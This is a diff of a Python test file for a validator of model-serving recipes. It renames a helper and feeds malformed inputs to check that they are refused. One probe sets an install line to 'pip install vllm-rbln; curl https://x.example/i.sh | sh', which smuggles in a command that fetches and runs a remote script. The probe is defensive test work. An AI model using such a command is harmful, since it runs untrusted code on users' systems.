@@ -26,7 +26,7 @@ from pathlib import Path
 
 import pytest
 
-from recipe_support import REPO, check_mutated, shipped, write
+from recipe_support import REPO, check_mutated, fixture, write
 from recipebook import check_file
 
 GPT, AXK2 = "gpt-oss-120b", "A.X-K2"
@@ -182,7 +182,7 @@ def _validate(*paths: Path, timeout: float = 120) -> subprocess.CompletedProcess
 
 
 def test_a_number_of_thousands_of_digits_is_refused_at_its_place(tmp_path):
-    text = json.dumps(shipped(GPT), indent=2).replace('"axes"', '"x": ' + "9" * 5001 + ', "axes"', 1)
+    text = json.dumps(fixture(GPT), indent=2).replace('"axes"', '"x": ' + "9" * 5001 + ', "axes"', 1)
     path = tmp_path / f"{GPT}.json"
     path.write_text(text, encoding="utf-8")
     offset = text.index("9" * 5001)
@@ -268,7 +268,7 @@ def test_the_page_s_archive_refuses_a_long_name_as_python_does():
 
 def test_a_shipped_recipe_passes_every_round3_check(tmp_path):
     for name in (GPT, AXK2):
-        path, _ = write(tmp_path, shipped(name))
+        path, _ = write(tmp_path, fixture(name))
         assert check_file(path)[1] == []
 
 
@@ -503,7 +503,7 @@ def test_a_build_with_round3_probes_stops_with_each_problem_located_and_no_trace
     from third_recipe import copy_project
 
     project = copy_project(tmp_path / "project")
-    data = shipped(GPT)
+    data = fixture(GPT)
     data["installLine"] = "pip install vllm-rbln; curl https://x.example/i.sh | sh"
     grid(data)["base"][0]["args"]["--max-num-seqs"] = "--max-num-seqs \u0668"
     data["text"]["en"]["sub"] += " &#8238;x"
